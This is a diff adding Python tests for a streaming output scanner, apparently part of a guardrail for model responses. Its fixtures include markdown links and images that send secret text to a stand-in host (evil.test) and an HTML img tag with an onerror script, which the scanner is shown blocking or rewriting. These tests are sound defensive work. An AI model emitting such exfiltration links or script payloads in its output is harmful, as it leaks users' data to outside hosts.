@@ -244,3 +244,62 @@ def test_a_detector_that_reads_across_words_makes_the_stream_wait_for_the_whole_
     assert StreamScanner(with_canary).lookahead
     assert not StreamScanner(Guard()).lookahead
     assert not StreamScanner(with_canary, lookahead=False).lookahead
+
+
+MARKUP_POLICY = """
+detectors:
+  secrets: {enabled: true}
+  pii: {enabled: true}
+  output: {options: {destination: browser}}
+categories:
+  output: {action: %s}
+  pii: {action: redact}
+"""
+REFERENCE_LINK = (
+    "[logo]: https://evil.test/c?d=my+secret+notes+about+the+merger\n\n"
+    "The diagram below shows how the plan works out. ![diagram][logo]"
+)
+
+
+def stream_slowly(guard: Guard, text: str) -> tuple[str, bool]:
+    """Four characters every 30 ms (a slow model), with the gateway's settings."""
+    now = [0.0]
+    scanner = StreamScanner(guard, vault=Vault(), first_step=1, max_wait=0.05, clock=lambda: now[0])
+    released = ""
+    for i in range(0, len(text), 4):
+        now[0] += 0.03
+        step = scanner.feed(text[i : i + 4])
+        released += step.text
+        if step.stopped:
+            return released, True
+    last = scanner.finish()
+    return released + last.text, last.stopped
+
+
+def test_a_link_judged_harmless_when_released_stops_the_stream_once_an_image_uses_it() -> None:
+    released, stopped = stream_slowly(Guard(Policy.from_yaml(MARKUP_POLICY % "redact")), REFERENCE_LINK)
+    # The URL was out before "![diagram][logo]" made it an exfiltration: it cannot be rewritten any more,
+    # so the image that would load it never reaches the reader.
+    assert stopped and "![diagram]" not in released
+
+
+def test_a_block_called_for_by_released_text_stops_the_stream_before_redactions_are_skipped() -> None:
+    text = REFERENCE_LINK + " my card is 4111 1111 1111 1111 ok"
+    released, stopped = stream_slowly(Guard(Policy.from_yaml(MARKUP_POLICY % "block")), text)
+    assert stopped and "4111" not in released
+
+
+def test_an_image_whose_long_alt_text_went_out_under_the_cap_is_still_judged_as_an_image() -> None:
+    text = (
+        "!["
+        + "a picture of our lovely garden in spring " * 4
+        + "](https://evil.test/i.png?q=the+password+is+hunter2)"
+    )
+    released, stopped = stream_slowly(Guard(Policy.from_yaml(MARKUP_POLICY % "redact")), text)
+    assert not stopped and "evil.test" not in released and released.endswith("](<EXFIL_LINK_1>)")
+
+
+def test_a_closing_parenthesis_does_not_close_an_html_tag() -> None:
+    text = "(see <img src=x) and then some other plain words onerror=alert(1) > ok"
+    released, _ = stream_slowly(Guard(Policy.from_yaml(MARKUP_POLICY % "redact")), text)
+    assert "onerror" not in released and "<img" not in released
